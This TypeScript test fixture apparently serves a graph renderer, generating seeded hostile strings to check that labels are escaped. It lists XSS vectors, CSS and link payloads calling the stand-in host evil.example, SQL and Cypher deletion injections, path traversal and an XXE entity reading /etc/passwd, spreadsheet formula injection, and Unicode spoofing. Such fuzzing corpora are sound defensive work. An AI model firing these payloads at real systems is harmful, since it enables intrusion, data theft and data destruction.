/**
 * Strings as an attacker would put them into a graph. Every one of them is different, and tries, in the language of one reader or
 * another, to set `window.__hit`, to fetch from STRAY, or to break out of the place where it is shown.
 */

import { randomFrom } from "../../../bench/random";

/** Where every payload that fetches would fetch from; nothing may ever be asked of it. */
export const STRAY = "https://evil.example";

const HIT = "window.__hit=1";

/** Each payload by its number, which keeps the strings apart. */
const PAYLOADS: readonly ((number: number) => string)[] = [
  (n) => `<script>${HIT}/*${n}*/</script>`,
  (n) => `<script src="${STRAY}/${n}.js"></script>`,
  (n) => `<img src="${STRAY}/${n}.png" onerror="${HIT}">`,
  (n) => `<img src=x${n} onerror=${HIT}>`,
  (n) => `<svg onload="${HIT}"><use href="${STRAY}/${n}.svg#a"/></svg>`,
  (n) =>
    `<svg><script href="${STRAY}/${n}.js">${HIT}</script><animate onbegin="${HIT}" attributeName="x"/></svg>`,
  (n) =>
    `<svg><foreignObject><iframe srcdoc="&lt;script&gt;parent.__hit=${n}&lt;/script&gt;"/></foreignObject></svg>`,
  (n) => `<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=${n} onerror=${HIT}&gt;">`,
  (n) => `<math href="javascript:${HIT}">${n}</math>`,
  (n) => `<iframe src="javascript:parent.${HIT}//${n}"></iframe>`,
  (n) => `<object data="data:text/html,<script>parent.__hit=${n}</script>"></object>`,
  (n) => `<a href="javascript:${HIT}" autofocus onfocus="${HIT}">${n}</a>`,
  (n) => `<details open ontoggle="${HIT}">${n}</details>`,
  (n) => `<input autofocus onfocus=${HIT} value=${n}>`,
  (n) => `<link rel="stylesheet" href="${STRAY}/${n}.css"><base href="${STRAY}/${n}/">`,
  (n) => `<meta http-equiv="refresh" content="0;url=${STRAY}/${n}">`,
  (n) => `<template><slot name="${n}" onslotchange="${HIT}"></slot></template>`,
  (n) => `<x-${n} style="animation:a" onanimationstart="${HIT}">`,
  (n) => `<form action="${STRAY}/${n}"><button formaction="javascript:${HIT}">`,
  (n) => `javascript:${HIT}//${n}`,
  (n) => `jav\u0001a\tscript\n:${HIT}//${n}`,
  (n) => `data:text/html;base64,${Buffer.from(`<script>${HIT}//${n}</script>`).toString("base64")}`,
  (n) => `vbscript:msgbox(${n})`,
  (n) => `${STRAY}/${n}?a=1&b=2#c`,
  (n) => `//evil.example/${n}`,
  (n) => `{{constructor.constructor('${HIT}')()}}${n}`,
  (n) => `\${${HIT}}<%= ${HIT} %>#{${HIT}}*{${n}}`,
  (n) => `@import url("${STRAY}/${n}.css");`,
  (n) => `red;background:url(${STRAY}/${n}.png);x:expression(${HIT})`,
  (n) => `}</style><style>*{background:url(${STRAY}/${n}.png)}`,
  (n) => `\\3c script\\3e ${n}`,
  (n) => `photo${n}\u202Egnp.exe`,
  (n) => `\u2067right${n}\u2069\u2066left\u202Dover\u202C`,
  (n) => `a\u200Bd\u200Cm\u200Di\u2060n\uFEFF${n}\u00AD`,
  (n) => `z${"\u0300\u0316\u0489".repeat(120)}${n}`,
  (n) => `\u0001start${n}\u0002\u0003end\u007F\u009F`,
  (n) => `bell\u0007 back\b escape\u001B[31mred\u001B[0m ${n}`,
  (n) => `\u001B]8;;${STRAY}/${n}\u0007link\u001B]8;;\u0007`,
  (n) => `next\u0085line\u2028para\u2029graph\v\f${n}`,
  (n) => `one\ntwo\r\nthree\tfour ${n}`,
  (n) => `"'\`´‘“„«${n}»”’\\"\\'\\\``,
  (n) => `" onmouseover="${HIT}" x${n}="`,
  (n) => `' onmouseover='${HIT}' x${n}='`,
  (n) => `\` autofocus onfocus=${HIT} x${n}`,
  (n) => `&lt;script&gt;${HIT}&lt;/script&gt;&#${n};&amp;&nbsp;&notanentity;`,
  (n) => `&#x3C;img src=${n} onerror=${HIT}&#x3E;`,
  (n) => `=HYPERLINK("${STRAY}/${n}","click")`,
  (n) => `=cmd|' /C calc'!A${n}`,
  (n) => `+${n}+cmd|' /C calc'!A0`,
  (n) => `-${n}-2+3`,
  (n) => `@SUM(${n})`,
  (n) => `![picture](${STRAY}/${n}.png)`,
  (n) => `[click](javascript:${HIT}//${n})`,
  (n) => `<${STRAY}/${n}> [r${n}]: ${STRAY}/${n}`,
  (n) => `# heading ${n}\n\n- list\n\n| a | b |\n|---|---|\n<script>${HIT}</script>`,
  (n) => `\`\`\`\n<script>${HIT}</script>${n}\n\`\`\``,
  (n) => `|${n}|<b>bold</b>|**bold**|~~gone~~|`,
  (n) => `node[id="${n}"],#a.b:selected>edge{label:data(x)}`,
  (n) => `"]{content:url(${STRAY}/${n})}node["`,
  (n) => `data(__proto__.${n})`,
  (n) => `{"__proto__":{"hit":${n}},"constructor":{"prototype":{"hit":1}}}`,
  (n) => `","relation":"forged","x${n}":"`,
  (n) => `../../../../etc/passwd${n}`,
  (n) => `..\\..\\windows\\system32\\${n}`,
  (n) => `file:///etc/passwd#${n}`,
  (n) => `CON${n}.<>:"/\\|?*`,
  (n) => `'; DROP TABLE nodes; -- ${n}`,
  (n) => `') RETURN 1 UNION MATCH (n) DETACH DELETE n // ${n}`,
  (n) => `\`) DETACH DELETE (n) //${n}\``,
  (n) => `]]><script>${HIT}</script><![CDATA[${n}`,
  (n) => `--><script>${HIT}</script><!--${n}`,
  (n) =>
    `<?xml-stylesheet href="${STRAY}/${n}.xsl"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`,
  (n) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${HIT}/*${n}*/</x:script>`,
  (n) => `</title></textarea></noscript></style></script><svg onload=${HIT} id=${n}>`,
  (n) => `%3Cscript%3E${HIT}%3C/script%3E${n}%00%0d%0aSet-Cookie:x=1`,
  (n) => `\uFF1Cscript\uFF1E${HIT}\uFF1C/script\uFF1E${n}`,
  (n) => `👩‍👩‍👧‍👦🏴‍☠️${n}\u{E0001}\u{E007F}`,
  (n) => `long${n} ${`<b>${HIT}</b> `.repeat(300)}`,
];

/** Keys that objects treat in their own way. */
const KEYS = ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "__defineSetter__"];

/** Ahead of a payload: what may have to be closed first. */
const OPENINGS = [
  "",
  "",
  '">',
  "'>",
  "`>",
  "*/",
  "-->",
  "]]>",
  "</title>",
  "</textarea>",
  "${'",
  "\\",
  "%22%3E",
];

/** So many different strings, the same for the same seed. */
export function hostileStrings(count: number, seed = 1): string[] {
  const random = randomFrom(seed);
  return Array.from({ length: count }, (_, at) => {
    if (at < KEYS.length) return KEYS[at]!;
    const opening =
      at < PAYLOADS.length + KEYS.length ? "" : OPENINGS[Math.floor(random() * OPENINGS.length)]!;
    return opening + PAYLOADS[(at - KEYS.length) % PAYLOADS.length]!(at);
  });
}
